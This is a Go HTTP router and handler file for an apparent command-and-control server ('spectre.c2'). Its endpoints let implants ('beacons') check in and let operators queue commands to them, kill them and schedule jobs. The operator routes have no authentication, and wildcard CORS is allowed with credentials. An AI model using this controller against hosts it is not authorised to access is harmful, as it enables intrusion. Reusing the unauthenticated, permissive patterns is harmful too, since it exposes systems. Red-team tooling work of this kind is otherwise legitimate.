package http

import (
	"encoding/json"
	"net"
	"net/http"
	"strconv"
	"strings"

	"github.com/go-chi/chi/v5"
	"github.com/go-chi/chi/v5/middleware"
	"github.com/go-chi/cors"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/ports"
	"spectre.c2/internal/core/services"
)

type Server struct {
	router    *chi.Mux
	checkin   *services.CheckinService
	beacons   *services.BeaconService
	jobs      *services.JobService
	scheduler *services.SchedulerService
	activity  *services.ActivityService
	healthSvc *services.HealthService
	hub       *Hub
	agentCfg  domain.AgentConfig
}

func NewServer(
	checkin *services.CheckinService,
	beacons *services.BeaconService,
	jobs *services.JobService,
	scheduler *services.SchedulerService,
	activity *services.ActivityService,
	healthSvc *services.HealthService,
	hub *Hub,
	agentCfg domain.AgentConfig,
) *Server {
	s := &Server{
		router:    chi.NewRouter(),
		checkin:   checkin,
		beacons:   beacons,
		jobs:      jobs,
		scheduler: scheduler,
		activity:  activity,
		healthSvc: healthSvc,
		hub:       hub,
		agentCfg:  agentCfg,
	}
	s.routes()
	return s
}

func (s *Server) routes() {
	s.router.Use(middleware.Logger)
	s.router.Use(middleware.Recoverer)
	s.router.Use(MetricsMiddleware)
	s.router.Use(cors.Handler(cors.Options{
		AllowedOrigins:   []string{"*"},
		AllowedMethods:   []string{"GET", "POST", "PUT", "DELETE", "OPTIONS"},
		AllowedHeaders:   []string{"Accept", "Authorization", "Content-Type", "X-CSRF-Token"},
		ExposedHeaders:   []string{"Link"},
		AllowCredentials: true,
		MaxAge:           300,
	}))

	// Metrics endpoint
	s.router.Get("/metrics", func(w http.ResponseWriter, r *http.Request) {
		MetricsHandler().ServeHTTP(w, r)
	})

	// Kubernetes probes
	s.router.Get("/health/live", s.handleLiveness)
	s.router.Get("/health/ready", s.handleReadiness)

	s.router.Get("/api/health", s.handleHealth)
	s.router.Get("/api/health/detailed", s.handleDetailedHealth)
	s.router.Get("/api/ws", s.handleWS)

	// Beacon-facing
	s.router.Post("/api/checkin", s.handleCheckin)
	s.router.Get("/api/agent/config", s.handleAgentConfig)

	// Operator-facing
	s.router.Route("/api/beacons", func(r chi.Router) {
		r.Get("/", s.handleListBeacons)
		r.Get("/{id}", s.handleGetBeacon)
		r.Put("/{id}/config", s.handleUpdateBeaconConfig)
		r.Post("/{id}/kill", s.handleKillBeacon)
		r.Post("/{id}/tasks", s.handleCreateTask)
		r.Get("/{id}/tasks", s.handleListTasks)
	})

	s.router.Route("/api/jobs", func(r chi.Router) {
		r.Get("/", s.handleListJobs)
		r.Get("/{id}", s.handleGetJob)
		r.Post("/{id}/cancel", s.handleCancelJob)
		r.Post("/{id}/retry", s.handleRetryJob)
	})

	s.router.Route("/api/schedules", func(r chi.Router) {
		r.Post("/", s.handleCreateSchedule)
		r.Get("/", s.handleListSchedules)
		r.Get("/{id}", s.handleGetSchedule)
		r.Put("/{id}", s.handleUpdateSchedule)
		r.Delete("/{id}", s.handleDeleteSchedule)
		r.Post("/{id}/run", s.handleRunSchedule)
	})

	s.router.Get("/api/activity", s.handleActivity)
}

func (s *Server) Run(addr string) error {
	return http.ListenAndServe(addr, s.router)
}

// Handler exposes the router for tests and embedding.
func (s *Server) Handler() http.Handler {
	return s.router
}

// writeError maps the domain error taxonomy onto HTTP status codes:
// validation 400, illegal state 409, missing 404, transient storage 503,
// anything else 500.
func writeError(w http.ResponseWriter, err error) {
	code := http.StatusInternalServerError
	switch {
	case domain.IsValidation(err):
		code = http.StatusBadRequest
	case domain.IsInvalidState(err):
		code = http.StatusConflict
	case domain.IsNotFound(err):
		code = http.StatusNotFound
	case domain.IsTransient(err):
		code = http.StatusServiceUnavailable
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(map[string]string{"error": err.Error()})
}

func writeJSON(w http.ResponseWriter, code int, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(v)
}

// remoteIP extracts the peer address, preferring the first X-Forwarded-For
// hop when a proxy sits in front.
func remoteIP(r *http.Request) string {
	if fwd := r.Header.Get("X-Forwarded-For"); fwd != "" {
		if idx := strings.IndexByte(fwd, ','); idx >= 0 {
			return strings.TrimSpace(fwd[:idx])
		}
		return strings.TrimSpace(fwd)
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}

// Health

func (s *Server) handleHealth(w http.ResponseWriter, r *http.Request) {
	status, code := s.healthSvc.SimpleHealthCheck(r.Context())
	w.WriteHeader(code)
	w.Write([]byte(status))
}

func (s *Server) handleLiveness(w http.ResponseWriter, r *http.Request) {
	w.WriteHeader(http.StatusOK)
	w.Write([]byte("ok"))
}

func (s *Server) handleReadiness(w http.ResponseWriter, r *http.Request) {
	status, code := s.healthSvc.SimpleHealthCheck(r.Context())
	w.WriteHeader(code)
	w.Write([]byte(status))
}

func (s *Server) handleDetailedHealth(w http.ResponseWriter, r *http.Request) {
	report := s.healthSvc.CheckHealth(r.Context())

	statusCode := http.StatusOK
	if report.Status == services.HealthStatusUnhealthy {
		statusCode = http.StatusServiceUnavailable
	}
	writeJSON(w, statusCode, report)
}

func (s *Server) handleWS(w http.ResponseWriter, r *http.Request) {
	ServeWs(s.hub, w, r)
}

// Beacon-facing handlers

func (s *Server) handleCheckin(w http.ResponseWriter, r *http.Request) {
	var req services.CheckinRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, domain.NewValidationError("body", "invalid JSON: "+err.Error()))
		return
	}

	resp, err := s.checkin.Handle(r.Context(), &req, remoteIP(r))
	if err != nil {
		writeError(w, err)
		return
	}

	RecordCheckin()
	for range resp.Jobs {
		RecordJobEvent(string(domain.JobStatusSent))
	}
	writeJSON(w, http.StatusOK, resp)
}

func (s *Server) handleAgentConfig(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.agentCfg)
}

// Beacon registry handlers

func (s *Server) handleListBeacons(w http.ResponseWriter, r *http.Request) {
	beacons, err := s.beacons.List(r.Context())
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"beacons": beacons, "total": len(beacons)})
}

func (s *Server) handleGetBeacon(w http.ResponseWriter, r *http.Request) {
	beacon, err := s.beacons.Get(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, beacon)
}

func (s *Server) handleUpdateBeaconConfig(w http.ResponseWriter, r *http.Request) {
	var upd services.ConfigUpdate
	if err := json.NewDecoder(r.Body).Decode(&upd); err != nil {
		writeError(w, domain.NewValidationError("body", "invalid JSON: "+err.Error()))
		return
	}
	beacon, err := s.beacons.UpdateConfig(r.Context(), chi.URLParam(r, "id"), upd)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, beacon)
}

func (s *Server) handleKillBeacon(w http.ResponseWriter, r *http.Request) {
	beacon, err := s.beacons.Kill(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}

	s.activity.Record(r.Context(), domain.ActivityBeaconKilled, services.ActivityFields{
		BeaconID: beacon.ID,
		Hostname: beacon.Hostname,
	})
	s.hub.Broadcast(ports.Event{Type: "beacon_killed", Payload: map[string]string{"beacon_id": beacon.ID}})
	writeJSON(w, http.StatusOK, beacon)
}

// Task handlers

type CreateTaskRequest struct {
	Type       domain.JobType  `json:"job_type"`
	Command    string          `json:"command"`
	Parameters domain.ParamMap `json:"parameters"`
}

func (s *Server) handleCreateTask(w http.ResponseWriter, r *http.Request) {
	var req CreateTaskRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, domain.NewValidationError("body", "invalid JSON: "+err.Error()))
		return
	}

	job, err := s.jobs.Enqueue(r.Context(), chi.URLParam(r, "id"), req.Type, strings.TrimSpace(req.Command), req.Parameters)
	if err != nil {
		writeError(w, err)
		return
	}

	RecordJobEvent(string(domain.JobStatusPending))
	s.hub.Broadcast(ports.Event{Type: "job_created", Payload: job})
	writeJSON(w, http.StatusCreated, job)
}

func (s *Server) handleListTasks(w http.ResponseWriter, r *http.Request) {
	limit := 0
	if l := r.URL.Query().Get("limit"); l != "" {
		if val, err := strconv.Atoi(l); err == nil {
			limit = val
		}
	}
	jobs, err := s.jobs.RecentFor(r.Context(), chi.URLParam(r, "id"), limit)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"jobs": jobs, "total": len(jobs)})
}

// Job handlers

func (s *Server) handleListJobs(w http.ResponseWriter, r *http.Request) {
	offset := 0
	limit := 20

	if o := r.URL.Query().Get("offset"); o != "" {
		if val, err := strconv.Atoi(o); err == nil && val >= 0 {
			offset = val
		}
	}
	if l := r.URL.Query().Get("limit"); l != "" {
		if val, err := strconv.Atoi(l); err == nil && val > 0 && val <= 100 {
			limit = val
		}
	}

	result, err := s.jobs.List(r.Context(), offset, limit)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, result)
}

func (s *Server) handleGetJob(w http.ResponseWriter, r *http.Request) {
	job, err := s.jobs.Get(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, job)
}

func (s *Server) handleCancelJob(w http.ResponseWriter, r *http.Request) {
	job, err := s.jobs.Cancel(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}

	RecordJobEvent(string(domain.JobStatusCancelled))
	s.activity.Record(r.Context(), domain.ActivityJobCancelled, services.ActivityFields{
		BeaconID: job.BeaconID,
		Details:  domain.ParamMap{"job_id": job.ID},
	})
	s.hub.Broadcast(ports.Event{Type: "job_cancelled", Payload: map[string]string{"job_id": job.ID}})
	writeJSON(w, http.StatusOK, job)
}

func (s *Server) handleRetryJob(w http.ResponseWriter, r *http.Request) {
	job, err := s.jobs.Retry(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}

	RecordJobEvent(string(domain.JobStatusPending))
	s.hub.Broadcast(ports.Event{Type: "job_retried", Payload: job})
	writeJSON(w, http.StatusCreated, job)
}

// Schedule handlers

func (s *Server) handleCreateSchedule(w http.ResponseWriter, r *http.Request) {
	var in services.ScheduleInput
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil {
		writeError(w, domain.NewValidationError("body", "invalid JSON: "+err.Error()))
		return
	}
	schedule, err := s.scheduler.CreateSchedule(r.Context(), in)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusCreated, schedule)
}

func (s *Server) handleListSchedules(w http.ResponseWriter, r *http.Request) {
	schedules, err := s.scheduler.ListSchedules(r.Context())
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"schedules": schedules, "total": len(schedules)})
}

func (s *Server) handleGetSchedule(w http.ResponseWriter, r *http.Request) {
	schedule, err := s.scheduler.GetSchedule(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, schedule)
}

func (s *Server) handleUpdateSchedule(w http.ResponseWriter, r *http.Request) {
	var in services.ScheduleInput
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil {
		writeError(w, domain.NewValidationError("body", "invalid JSON: "+err.Error()))
		return
	}
	schedule, err := s.scheduler.UpdateSchedule(r.Context(), chi.URLParam(r, "id"), in)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, schedule)
}

func (s *Server) handleDeleteSchedule(w http.ResponseWriter, r *http.Request) {
	if err := s.scheduler.DeleteSchedule(r.Context(), chi.URLParam(r, "id")); err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": "deleted"})
}

func (s *Server) handleRunSchedule(w http.ResponseWriter, r *http.Request) {
	created, err := s.scheduler.RunNow(r.Context(), chi.URLParam(r, "id"))
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"status": "fired", "jobs_created": created})
}

// Activity handler

func (s *Server) handleActivity(w http.ResponseWriter, r *http.Request) {
	limit := 0
	if l := r.URL.Query().Get("limit"); l != "" {
		if val, err := strconv.Atoi(l); err == nil {
			limit = val
		}
	}
	entries, err := s.activity.Recent(r.Context(), limit)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]interface{}{"activity": entries, "total": len(entries)})
}
